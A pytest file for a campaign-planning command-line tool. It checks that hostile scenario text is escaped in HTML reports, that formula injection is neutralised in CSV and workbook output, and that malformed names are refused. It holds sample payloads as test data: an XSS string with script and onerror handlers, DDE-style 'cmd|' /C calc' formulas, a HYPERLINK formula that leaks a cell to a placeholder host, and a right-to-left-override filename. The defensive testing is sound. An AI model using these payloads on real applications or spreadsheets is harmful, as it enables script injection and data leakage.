"""Hostile text in a scenario and failures while writing: what the tool writes never carries a script or a
formula that was not ours, odd names are refused, and an output folder is written whole or not at all.

Every refusal asserts the exit code, exactly one paragraph on stderr, no traceback, valid JSON under --json,
and the file system unchanged. The hostile scenarios are generated here from the bundled café scenario.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from campaign.files import neutralise, whatif_csv
from campaign.whatif import WhatIfResult
from scenarios.library import library_path
from tests.conftest import chromium
from tests.faults.refusals import assert_refused, invoke, snapshot

#: Closes a double- or single-quoted attribute, opens a script, an element with a handler and a custom element.
XSS = (
    "order\"'><script>document.title='pwned';alert(1)</script>"
    '<img src=x onerror="alert(2)"><x-injected>injected</x-injected><b x="\''
)


def cafe() -> dict:
    return yaml.safe_load(library_path("cafe-chain-q1").read_text(encoding="utf-8"))


def write_scenario(folder: Path, data: dict, name: str = "hostile.yaml") -> Path:
    path = folder / name
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def hostile(folder: Path, text: str, *, keep_variants: bool = False) -> Path:
    """The café scenario with every free-text field set to `text` (the conversion name too)."""
    data = cafe()
    data["description"] = text
    data["business"]["conversion"] = text
    for option in data["business"]["team_options"].values():
        option["description"] = text
    data["sources"] = dict.fromkeys(data["sources"], text)
    for channel in data["channels"].values():
        channel["sources"] = dict.fromkeys(channel.get("sources", {}), text)
    if not keep_variants:
        data.pop("variants")
    return write_scenario(folder, data)


# -- Item: no script in the HTML report ---------------------------------------------------------------------------


class Markup(HTMLParser):
    """Every start tag with its attributes, and the page's text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_hostile_text_in_every_field_is_shown_as_text_and_never_runs(tmp_path):
    report = tmp_path / "report.html"
    result = invoke("report", str(hostile(tmp_path, XSS)), "--simulate", "5", "-o", str(report))
    assert result.exit_code == 0, result.output
    page = report.read_text(encoding="utf-8")
    markup = Markup()
    markup.feed(page)
    tags = {tag for tag, _ in markup.tags}
    assert not tags & {"script", "img", "x-injected"}, tags
    assert [attrs for tag, attrs in markup.tags if tag == "b" and attrs] == []
    handlers = [(tag, name) for tag, attrs in markup.tags for name in attrs if name.startswith("on")]
    assert handlers == []
    # The text arrives whole, as text: in the description, the headline's column, the sources, the band chart's
    # caption, and (unbroken) in the band chart's data-chart attribute.
    text = "".join(markup.text)
    assert text.count(XSS) >= 1 + 1 + 16
    charts = [attrs.get("data-chart") for tag, attrs in markup.tags if tag == "figure"]
    assert f"band-{XSS}s" in charts

    with chromium() as browser:
        view = browser.new_page()
        dialogs: list[str] = []
        view.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        view.goto(report.as_uri())
        view.wait_for_load_state("load")
        found = view.evaluate(
            """() => ({
                title: document.title,
                injected: document.querySelectorAll('script, img, x-injected, b[x], iframe').length,
                handlers: [...document.querySelectorAll('*')]
                    .filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
                caption: [...document.querySelectorAll('figure')].map(f => f.dataset.chart),
                text: document.body.innerText,
            })"""
        )
    assert dialogs == []
    assert "pwned" not in found["title"]
    assert found["injected"] == 0
    assert found["handlers"] == 0
    assert f"band-{XSS}s" in found["caption"]
    assert found["text"].count(XSS) >= 18


# -- Item: matplotlib's mathtext reads no label -------------------------------------------------------------------


@pytest.mark.parametrize(
    "conversion", [r"$\frac{1$", r"order $x^2$ \$", "$$", r"sale $\undefined{x}$ x", "cake 🎂 \u200f"]
)
def test_dollar_signs_and_tex_in_a_label_are_drawn_as_written(tmp_path, conversion):
    data = cafe()
    data["business"]["conversion"] = conversion
    data.pop("variants")
    report = tmp_path / "report.html"
    with warnings.catch_warnings():
        # Nothing on stderr either: a glyph the plotting font lacks is the browser's to draw (the SVG holds text).
        warnings.simplefilter("error", UserWarning)
        result = invoke("report", str(write_scenario(tmp_path, data)), "--simulate", "3", "-o", str(report))
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    page = report.read_text(encoding="utf-8")
    markup = Markup()
    markup.feed(page)
    # The band chart's title and the frontier's axis label hold the name as written (SVG text, fonttype none).
    assert f"{conversion}s to date" in "".join(markup.text)


# -- Item: no formula in the workbook or the CSV files that was not ours ------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "bell \x07 and escape \x1b in a source",
]


def test_sources_that_look_like_formulas_are_text_cells_in_the_workbook(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    data = cafe()
    data.pop("variants")
    keys = list(data["sources"])
    data["sources"] = {key: FORMULAS[i % len(FORMULAS)] for i, key in enumerate(keys)}
    data["channels"]["facebook"]["sources"] = dict.fromkeys(data["channels"]["facebook"]["sources"], FORMULAS[0])
    book = tmp_path / "pnl.xlsx"
    result = invoke("pnl", str(write_scenario(tmp_path, data)), "--xlsx", str(book))
    assert result.exit_code == 0, result.output
    sheets = openpyxl.load_workbook(book)
    written = {}
    for row in sheets["Assumptions"].iter_rows(min_row=2):
        key, source = row[0], row[2]
        assert key.data_type == "s"
        if source.value is not None:
            assert source.data_type == "s", (key.value, source.value)
            written[key.value] = source.value
    # Shown as written; control characters (which a workbook cannot hold) as their escapes.
    assert written["business.value_per_conversion"] == data["sources"]["business.value_per_conversion"]
    assert written["channels.facebook.cpm"] == FORMULAS[0]
    assert "bell \\x07 and escape \\x1b in a source" in written.values()
    # Our own subtotals and KPIs are still live formulas; every other text cell is text.
    kinds = {
        (cell.data_type, isinstance(cell.value, str) and cell.value.startswith("="))
        for sheet in sheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert ("f", True) in kinds
    formulas = [c.value for s in sheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    # None of them is one of the sources.
    assert [f for f in formulas if any(word in f for word in ("HYPERLINK", "cmd", "1+1"))] == []


def test_every_csv_field_that_a_spreadsheet_would_run_is_neutralised():
    for text in FORMULAS[:6]:
        assert neutralise(text) == "'" + text
    assert neutralise("#N/A") == "#N/A"
    assert neutralise("lean") == "lean"
    # Numbers are numbers: a negative profit is not text and keeps its sign.
    assert neutralise(-1234.5) == -1234.5
    assert neutralise(0) == 0
    rows = [
        {"name": name, "status": "infeasible", "message": "x"} for name in ("base", *FORMULAS[:6], "budget.total=10000")
    ]
    import csv

    read = list(csv.DictReader(io.StringIO(whatif_csv(WhatIfResult("s", "EUR", rows, 0)))))
    assert [r["name"] for r in read] == ["base", *("'" + t for t in FORMULAS[:6]), "budget.total=10000"]


def test_negative_numbers_in_a_csv_stay_numbers(tmp_path):
    out = tmp_path / "out"
    data = cafe()
    data.pop("variants")
    data["business"]["monthly_costs"]["team"] = 20000
    # No budget pays for a team of 20,000 a month: the profit column is negative.
    path = write_scenario(tmp_path, data)
    result = invoke("frontier", str(path), "--from", "18000", "--to", "20000", "--points", "2", "-o", str(out))
    assert result.exit_code == 0, result.output
    with (out / "frontier.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    profits = [float(r["profit"]) for r in rows if r["status"] == "optimal"]
    assert min(profits) < 0
    assert "'" not in (out / "frontier.csv").read_text(encoding="utf-8")


# -- Item: scenario and variant names are identifiers -------------------------------------------------------------

BAD_NAMES = [
    '=HYPERLINK("http://example.invalid","x")',
    "lean\nvariant: injected",
    "lean\n\n# second paragraph",
    "lean\u200f",
    "lean\u202etxt.exe",
    "two words",
    "-dash-first",
    "",
]


@pytest.mark.parametrize("as_json", [False, True])
@pytest.mark.parametrize("name", BAD_NAMES)
def test_a_variant_name_that_is_not_an_identifier_is_refused_with_the_reason(tmp_path, name, as_json):
    data = cafe()
    data["variants"] = {name: {"budget": {"total": 15000}}}
    path = write_scenario(tmp_path, data)
    before = snapshot(tmp_path)
    shown = repr(name)
    for command in (["validate", str(path)], ["optimize", str(path), "-o", str(tmp_path / "out")]):
        result = invoke(*command, as_json=as_json)
        rule = "a variant name uses letters (a-z, A-Z), digits, '-', '_' and '.', and starts with a letter or digit"
        assert_refused(
            result,
            f"variants: {shown} is not a valid variant name: it " if name else "variants: a variant name is empty",
            as_json,
        )
        assert rule in result.stderr
        # The reason names the variant as a Python literal would: no line break, no bidirectional mark.
        assert all(ch.isprintable() or ch == "\n" for ch in result.stderr)
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("name", ["cafe\n", "cafe\u200f", "cafe\r\nx", "=cafe", "café"])
def test_a_scenario_name_that_is_not_an_identifier_is_refused(tmp_path, name):
    data = cafe()
    data["name"] = name
    path = write_scenario(tmp_path, data)
    result = invoke("validate", str(path))
    assert_refused(result, f"name: {name!r} is not valid; expected a name of letters, digits, '-', '_' or '.'")
    assert all(ch.isprintable() or ch == "\n" for ch in result.stderr)


def test_an_unknown_variant_on_the_command_line_is_named_printably(tmp_path):
    result = invoke("optimize", "cafe-chain-q1", "--variant", "lean\n\nx\u200f")
    assert_refused(result, "unknown variant 'lean\\n\\nx\\u200f'")


def test_the_resolved_scenario_header_is_three_comment_lines_that_load_again(tmp_path):
    data = cafe()
    data["variants"] = {"lean.v2_final-B": {"budget": {"total": 15000}}}
    path = write_scenario(tmp_path, data)
    out = tmp_path / "out"
    result = invoke("optimize", str(path), "--variant", "lean.v2_final-B", "-o", str(out))
    assert result.exit_code == 0, result.output
    text = (out / "scenario.yaml").read_text(encoding="utf-8")
    header = text.splitlines()[:3]
    assert all(line.startswith("# ") for line in header)
    assert header[1].startswith("# variant: lean.v2_final-B; seed: ")
    assert not text.splitlines()[3].startswith("#")
    again = invoke("optimize", str(out / "scenario.yaml"), "--json")
    assert json.loads(again.stdout)["totals"]["spend"] == pytest.approx(15000, rel=1e-6)


# -- Item: -o DIR is written whole or not at all ------------------------------------------------------------------

#: Each command that writes a folder, quick options, and the files it writes.
FOLDER_COMMANDS = {
    "optimize": (["optimize", "cafe-chain-q1"], ["allocation.csv", "result.json", "scenario.yaml"]),
    "frontier": (["frontier", "cafe-chain-q1", "--points", "2"], ["frontier.csv", "frontier.json", "scenario.yaml"]),
    "simulate": (
        ["simulate", "cafe-chain-q1", "--runs", "2"],
        ["replications.csv", "daily.csv", "simulation.json", "scenario.yaml"],
    ),
    "whatif": (["whatif", "cafe-chain-q1", "--variants", "lean"], ["whatif.csv", "whatif.json", "scenario.yaml"]),
}


def fail_on(monkeypatch, name: str, call: str = "write") -> None:
    """Make writing (or moving into place) the file `name` fail as a full disk does."""
    import errno
    import os
    import pathlib

    if call == "write":
        original = pathlib.Path.write_text

        def write_text(self, *args, **kwargs):
            if self.name == name:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self))
            return original(self, *args, **kwargs)

        monkeypatch.setattr(pathlib.Path, "write_text", write_text)
    else:
        original_replace = os.replace

        def replace(source, target, *args, **kwargs):
            if Path(target).name == name:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(target))
            return original_replace(source, target, *args, **kwargs)

        monkeypatch.setattr(os, "replace", replace)


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    """One folder per command holding that command's results and a file of the user's (written once)."""
    base = tmp_path_factory.mktemp("earlier")
    for command, (args, _) in FOLDER_COMMANDS.items():
        out = base / command
        result = invoke(*args, "-o", str(out))
        assert result.exit_code == 0, result.output
        (out / "notes.txt").write_text("mine\n", encoding="utf-8")
    return base


@pytest.fixture
def earlier(tmp_path, pristine) -> dict[str, Path]:
    """A copy of the earlier results for this test."""
    for command in FOLDER_COMMANDS:
        shutil.copytree(pristine / command, tmp_path / command)
    return {command: tmp_path / command for command in FOLDER_COMMANDS}


@pytest.mark.parametrize("call", ["write", "move"])
@pytest.mark.parametrize("command", list(FOLDER_COMMANDS))
def test_a_failure_while_writing_leaves_the_earlier_results_whole(tmp_path, earlier, monkeypatch, command, call):
    args, names = FOLDER_COMMANDS[command]
    out = earlier[command]
    before = snapshot(tmp_path)
    # Fail on the last file, so every other one was already written (or moved into place) when it fails.
    fail_on(monkeypatch, names[-1], call)
    # A different run, so the new files would differ from the earlier ones.
    changed = [*args, "--seed", "7"] if command == "simulate" else [*args[:2], "--variant", "lean", *args[2:]]
    if command == "whatif":
        changed = [*args[:2], "--variants", "tiktok-push"]
    for as_json in (False, True):
        result = invoke(*changed, "-o", str(out), as_json=as_json)
        assert_refused(
            result,
            f"{out}: cannot write {', '.join(names)}: No space left on device; nothing was written and the files "
            f"already in {out} are as they were",
            as_json,
        )
        assert snapshot(tmp_path) == before


@pytest.mark.parametrize("call", ["write", "move"])
def test_a_failure_while_writing_a_new_folder_leaves_no_folder(tmp_path, monkeypatch, call):
    fail_on(monkeypatch, "scenario.yaml", call)
    before = snapshot(tmp_path)
    result = invoke("optimize", "cafe-chain-q1", "-o", str(tmp_path / "new"), as_json=True)
    if call == "move":
        # A new folder is moved into place whole: one rename of the folder, none per file.
        assert result.exit_code == 0, result.output
        assert sorted(p.name for p in (tmp_path / "new").iterdir()) == FOLDER_COMMANDS["optimize"][1]
        return
    assert_refused(result, f"{tmp_path / 'new'}: cannot write allocation.csv, result.json, scenario.yaml", True)
    assert snapshot(tmp_path) == before


def test_a_result_name_taken_by_a_folder_is_refused_and_nothing_is_written(tmp_path):
    out = tmp_path / "out"
    (out / "result.json").mkdir(parents=True)
    (out / "allocation.csv").write_text("old\n", encoding="utf-8")
    before = snapshot(tmp_path)
    result = invoke("optimize", "cafe-chain-q1", "-o", str(out), as_json=True)
    assert_refused(result, f"{out / 'result.json'} is a folder", True)
    assert snapshot(tmp_path) == before


def test_a_successful_write_replaces_the_results_keeps_other_files_and_leaves_nothing_behind(tmp_path, earlier):
    out = earlier["optimize"]
    link = tmp_path / "link"
    link.symlink_to(out, target_is_directory=True)
    result = invoke("optimize", "cafe-chain-q1", "--variant", "lean", "-o", str(link))
    assert result.exit_code == 0, result.output
    assert link.is_symlink()
    assert sorted(p.name for p in out.iterdir()) == ["allocation.csv", "notes.txt", "result.json", "scenario.yaml"]
    assert json.loads((out / "result.json").read_text(encoding="utf-8"))["variant"] == "lean"
    assert "# variant: lean;" in (out / "scenario.yaml").read_text(encoding="utf-8")
    spend = sum(float(r["spend"]) for r in csv.DictReader((out / "allocation.csv").open(encoding="utf-8")))
    assert spend == pytest.approx(14400, rel=1e-6)
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*FOLDER_COMMANDS, "link"])


def test_a_failure_while_saving_the_workbook_leaves_the_earlier_one(tmp_path, monkeypatch):
    import errno
    import os

    import openpyxl

    book = tmp_path / "q1.xlsx"
    assert invoke("pnl", "cafe-chain-q1", "--xlsx", str(book)).exit_code == 0
    before = snapshot(tmp_path)

    def save(self, filename):
        Path(filename).write_bytes(b"partial")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(filename))

    monkeypatch.setattr(openpyxl.Workbook, "save", save)
    for as_json in (False, True):
        result = invoke("pnl", "cafe-chain-q1", "--variant", "lean", "--xlsx", str(book), as_json=as_json)
        assert_refused(
            result,
            f"{book}: cannot write the workbook: No space left on device; nothing was written and the file "
            "already there is as it was",
            as_json,
        )
        assert snapshot(tmp_path) == before


def test_a_failure_while_writing_the_report_leaves_no_file(tmp_path, monkeypatch):
    import errno
    import os

    original = Path.write_text

    def write_text(self, *args, **kwargs):
        original(self, "partial")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self))

    monkeypatch.setattr(Path, "write_text", write_text)
    result = invoke("report", "cafe-chain-q1", "--simulate", "2", "-o", str(tmp_path / "r.html"))
    assert_refused(result, f"{tmp_path / 'r.html'}: cannot write the report: No space left on device")
    assert list(tmp_path.iterdir()) == []


def test_a_run_waits_for_another_runs_renames_and_gives_up_with_a_reason(tmp_path, earlier, monkeypatch):
    fcntl = pytest.importorskip("fcntl")
    import os

    from campaign import outfolder

    out = earlier["optimize"]
    before = snapshot(tmp_path)
    monkeypatch.setattr(outfolder, "LOCK_SECONDS", 0.0)
    held = os.open(out, os.O_RDONLY)
    fcntl.flock(held, fcntl.LOCK_EX)  # another run in the middle of its renames
    try:
        result = invoke("optimize", "cafe-chain-q1", "--variant", "lean", "-o", str(out), as_json=True)
    finally:
        os.close(held)
    assert_refused(result, f"{out}: another run is writing its results into this folder", True)
    assert snapshot(tmp_path) == before
    # Once it has finished, the same run goes through.
    assert invoke("optimize", "cafe-chain-q1", "--variant", "lean", "-o", str(out)).exit_code == 0
    assert json.loads((out / "result.json").read_text(encoding="utf-8"))["variant"] == "lean"


def test_a_new_folder_another_run_created_meanwhile_is_joined(tmp_path, monkeypatch):
    import os

    out = tmp_path / "out"
    original = os.rename

    def rename(source, target):
        if Path(target) == out and not out.exists():
            out.mkdir()  # the other run got there first
            (out / "notes.txt").write_text("theirs\n", encoding="utf-8")
        return original(source, target)

    monkeypatch.setattr(os, "rename", rename)
    result = invoke("optimize", "cafe-chain-q1", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == ["allocation.csv", "notes.txt", "result.json", "scenario.yaml"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
